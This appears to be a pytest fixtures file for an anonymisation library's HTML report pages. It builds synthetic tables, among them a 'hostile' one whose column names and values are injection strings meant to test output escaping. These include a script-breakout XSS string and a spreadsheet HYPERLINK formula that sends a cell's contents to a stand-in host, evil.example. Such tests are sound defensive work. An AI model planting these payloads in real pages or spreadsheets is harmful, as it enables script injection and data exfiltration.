"""Releases that pages are made of: an ordinary one, and one full of names and values that would break a page."""

from __future__ import annotations

import re
import warnings
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from tclose import LeakWarning, Policy, Release, anonymize, attack
from tclose.measure.attack import Attacks

pytest.importorskip("altair", reason="pip install 'tclose[report]'")
pytest.importorskip("vl_convert", reason="pip install 'tclose[report]'")

EVIL = "</script><script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'


class Example:
    """A table, its policy, its release and the attacks on it."""

    def __init__(self, frame: pl.DataFrame, policy: Policy, *, method: str = "mondrian") -> None:
        self.frame, self.policy = frame, policy
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", LeakWarning)
            self.release: Release = anonymize(frame, policy, method=method, seed=3)
            self.attacks: Attacks = attack(self.release, original=frame, policy=policy)
        self._pages: dict[bool, str] = {}

    def page(self, path: Path, *, public: bool = False) -> str:
        """Write the page of the release, which takes a second: it is made once for all tests that look at it."""
        if public in self._pages:
            path.write_text(self._pages[public], encoding="utf-8")
        else:
            self._pages[public] = self.page_made_anew(path, public=public)
        return self._pages[public]

    def page_made_anew(self, path: Path, *, public: bool = False) -> str:
        self.release.report(path, original=self.frame, attacks=self.attacks, public=public)
        return path.read_text(encoding="utf-8")


def table(rows: int = 240) -> pl.DataFrame:
    chance = np.random.default_rng(5)
    return pl.DataFrame(
        {
            "name": [f"person-{i:04}" for i in range(rows)],
            "age": [f"{age:.2f}" for age in chance.uniform(18, 90, rows)],
            "zip": [f"{code:05}" for code in chance.integers(10_000, 10_400, rows)],
            "sex": chance.choice(["female", "male"], rows),
            "pay": chance.integers(20, 60, rows) * 100,
            "disease": chance.choice(["flu", "gastritis", "colitis", "bronchitis"], rows, p=[0.4, 0.3, 0.2, 0.1]),
        }
    )


@pytest.fixture(scope="session")
def ordinary() -> Example:
    policy = Policy.from_dict(
        {
            "identifiers": ["name"],
            "quasi": {"age": {}, "zip": {"hierarchy": {"prefix": [5, 4, 3]}}, "sex": {}},
            "sensitive": {"pay": {"t": 0.2}, "disease": {"t": "1/3", "distance": "equal", "l": 2}},
            "k": 4,
        }
    )
    return Example(table(), policy)


@pytest.fixture(scope="session")
def hostile() -> Example:
    """Names and values that break out of HTML, of JSON in a script, and of a spreadsheet's cell."""
    frame = table().rename({"sex": EVIL, "disease": FORMULA})
    evil = pl.col(FORMULA).replace(
        {"flu": EVIL, "gastritis": FORMULA, "colitis": "<!--<script>", "bronchitis": "]]>&amp;"}
    )
    frame = frame.with_columns(evil, pl.col(EVIL).replace({"female": "<b>f</b>", "male": "'-2+3"}))
    policy = Policy.from_dict(
        {
            "identifiers": ["name"],
            "quasi": {"age": {}, "zip": {}, EVIL: {}},
            "sensitive": {"pay": {"t": 0.3}, FORMULA: {"t": 0.4, "distance": "equal"}},
            "k": 4,
        }
    )
    return Example(frame, policy)


@pytest.fixture(scope="session")
def long() -> Example:
    """Long names, long texts that begin alike, and long numbers."""
    income = "annual household income before taxes and transfers, in euros"
    illness = "principal diagnosis at discharge, as coded by the ward"
    school = "highest education at the time of admission, as reported"
    texts = [
        f"malignant neoplasm of the {part}, with metastases" for part in ("colon", "lung", "pancreas", "WWWMMMWWW")
    ]
    frame = table().rename({"sex": school, "disease": illness, "pay": income})
    frame = frame.with_columns(
        pl.col(income) * 7_654_321 + pl.int_range(pl.len()) * 1_234_567,
        pl.col(illness).replace(dict(zip(sorted(frame[illness].unique()), texts, strict=True))),
        pl.col(school).replace({"female": "doctorate or an equivalent level (ISCED 8)"}),
    )
    policy = Policy.from_dict(
        {
            "identifiers": ["name"],
            "quasi": {"age": {}, "zip": {}, school: {}},
            "sensitive": {income: {"t": "3333333333/10000000001"}, illness: {"t": 0.4, "distance": "equal"}},
            "k": 4,
        }
    )
    return Example(frame, policy)


class _Text(HTMLParser):
    """What a reader sees, a line per block."""

    BLOCKS = frozenset(
        ("p", "h1", "h2", "h3", "li", "tr", "dt", "dd", "figcaption", "summary", "caption", "footer", "pre", "div")
    )

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.lines, self.hidden = [""], 0

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.hidden += tag in ("script", "style")
        self._break(tag)

    def handle_endtag(self, tag: str) -> None:
        self.hidden -= tag in ("script", "style")
        self._break(tag)
        if tag in ("td", "th"):
            self.lines[-1] += " | "

    def handle_data(self, data: str) -> None:
        if not self.hidden:
            self.lines[-1] += data

    def _break(self, tag: str) -> None:
        if tag in self.BLOCKS:
            self.lines.append("")


@pytest.fixture(scope="session")
def text_of() -> Callable[[str], str]:
    def text(page: str) -> str:
        reader = _Text()
        reader.feed(page)
        lines = (re.sub(r"\s+", " ", line).strip(" |") for line in reader.lines)
        return "\n".join(line for line in lines if line) + "\n"

    return text


@pytest.fixture(scope="session")
def make_example() -> type[Example]:
    return Example


@pytest.fixture(scope="session")
def make_table() -> Callable[[], pl.DataFrame]:
    return table


@pytest.fixture(scope="session")
def evil() -> tuple[str, str]:
    return EVIL, FORMULA
